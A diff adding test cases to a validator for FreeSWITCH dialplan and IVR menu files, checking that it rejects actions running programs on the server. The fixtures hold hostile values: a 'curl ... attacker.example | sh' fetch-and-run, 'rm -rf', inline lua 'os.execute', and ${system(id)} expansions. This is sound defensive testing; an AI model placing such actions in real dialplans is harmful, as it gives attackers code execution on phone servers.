@@ -142,6 +142,23 @@ CASES = [
      "(a typo?).", DIALPLAN, 15, "warning"),
     ("unknown-menu-app", replace(MENU, "transfer queue_sales XML switchdesk", "transfr queue_sales XML switchdesk"),
      "unknown-application", "FreeSWITCH has no application 'transfr'", MENU, 13, "warning"),
+    ("host-command", replace(DIALPLAN, '<action application="answer"/>',
+                             '<action application="system" data="curl -s http://attacker.example/x | sh"/>'),
+     "host-command", "The application 'system' runs a program on the FreeSWITCH server: switchdesk does not "
+     "publish it.", DIALPLAN, 15, "error"),
+    ("host-command-menu", replace(MENU, "transfer queue_sales XML switchdesk", "bgsystem rm -rf /tmp/x"),
+     "host-command", "The application 'bgsystem' runs a program on the FreeSWITCH server", MENU, 13, "error"),
+    ("inline-script", replace(DIALPLAN, '<action application="answer"/>',
+                              '<action application="lua" data="~os.execute(\'id\')"/>'),
+     "host-command", "'lua ~…' runs inline lua code on the FreeSWITCH server: switchdesk does not publish it "
+     "(name a script file instead).", DIALPLAN, 15, "error"),
+    ("api-expansion", replace(DIALPLAN, '<action application="answer"/>',
+                              '<action application="set" data="x=${system(id)}"/>'),
+     "api-expansion", "data=\"x=${system(id)}\" calls the API command 'system' (${system(...)}): switchdesk "
+     "publishes only API calls that compute a value (cond,", DIALPLAN, 15, "error"),
+    ("api-expansion-nested", replace(MENU, 'greet-long="ivr/ivr-thank_you_for_calling.wav"',
+                                     'greet-long="${cond(1 == 1 ? ${bg_system(id)} : x)}"'),
+     "api-expansion", "calls the API command 'bg_system'", MENU, 3, "error"),
     # 4. expressions that compile
     ("regex-condition", replace(DIALPLAN, 'expression="^queue_sales$"', 'expression="^(queue_sales$"'), "regex",
      "The expression of the condition on destination_number is not a valid regular expression: missing ), "
